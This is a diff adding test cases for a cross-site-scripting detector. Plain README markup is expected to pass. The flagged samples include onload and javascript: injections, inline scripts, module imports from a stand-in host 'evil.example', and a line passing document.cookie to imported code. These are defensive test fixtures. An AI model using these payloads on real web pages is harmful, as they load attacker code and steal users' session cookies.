@@ -43,3 +43,44 @@ test.each([
 ])('a dialog that shows what comes through is found: %s', (code) => {
   expect(foundIn(xss, code)).not.toEqual([]);
 });
+
+test.each([
+  '<a href="https://example.org/"><img src="https://example.org/logo.png" width="120" alt="Acme" /></a>',
+  '<img align="center" src="https://example.org/assets/logo.svg" alt="Acme" />',
+  '<a href="#size" name="size">#</a> <b>size</b>',
+  '<a name="2.0.0"></a> # [2.0.0](https://example.org/v2) (2016-05-17)',
+])('the first lines of a read-me only show something, in an address too: %s', (markup) => {
+  expect(foundIn(xss, markup)).toEqual([]);
+});
+
+test.each([
+  '<img src="https://example.org/logo.png">',
+  '<img src="//a.example/logo.png" alt="Acme">',
+  '<img src="https://example.org/logo.png" alt="Acme" onload="f()">',
+  '<a href="https://example.org/">Acme</a>',
+  '<a href="javascript:f()"><img src="https://example.org/logo.png" alt="Acme"></a>',
+  '<iframe src="https://example.org/"></iframe><img src="https://example.org/a.png" alt="Acme">',
+  '<img src="https://example.org/logo.png" alt="Acme"><script>f()</script>',
+  '<img alt="Acme" src=x>',
+])('probes and what leads elsewhere are found: %s', (markup) => {
+  expect(foundIn(xss, markup)).not.toEqual([]);
+});
+
+test.each([
+  '<script type="module">\n  import { size } from "https://unpkg.com/acme@2/index.mjs"\n</script>',
+  '<script type="module">\n  import * as acme from \'acme\';\n  // nothing else\n</script>',
+  "program\n  .command('run')\n  .argument('<script>')\n  .action(function () { console.error(this.args[0]); });",
+  '/** Kind of <script> tags */',
+])('modules of trusted hosts and names of the element run nothing: %s', (markup) => {
+  expect(foundIn(xss, jsonBody({ x: markup }))).toEqual([]);
+});
+
+test.each([
+  '<script type="module">import a from "https://evil.example/a.mjs"</script>',
+  '<script type="module">import "https://evil.example/a.mjs"</script>',
+  '<script type="module">import a from \'https://unpkg.com/acme\'; a(document.cookie)</script>',
+  "'<script>')//",
+  '<script> tags=alert(1)</script>',
+])('what else a script does is found: %s', (markup) => {
+  expect(foundIn(xss, jsonBody({ x: markup }))).not.toEqual([]);
+});
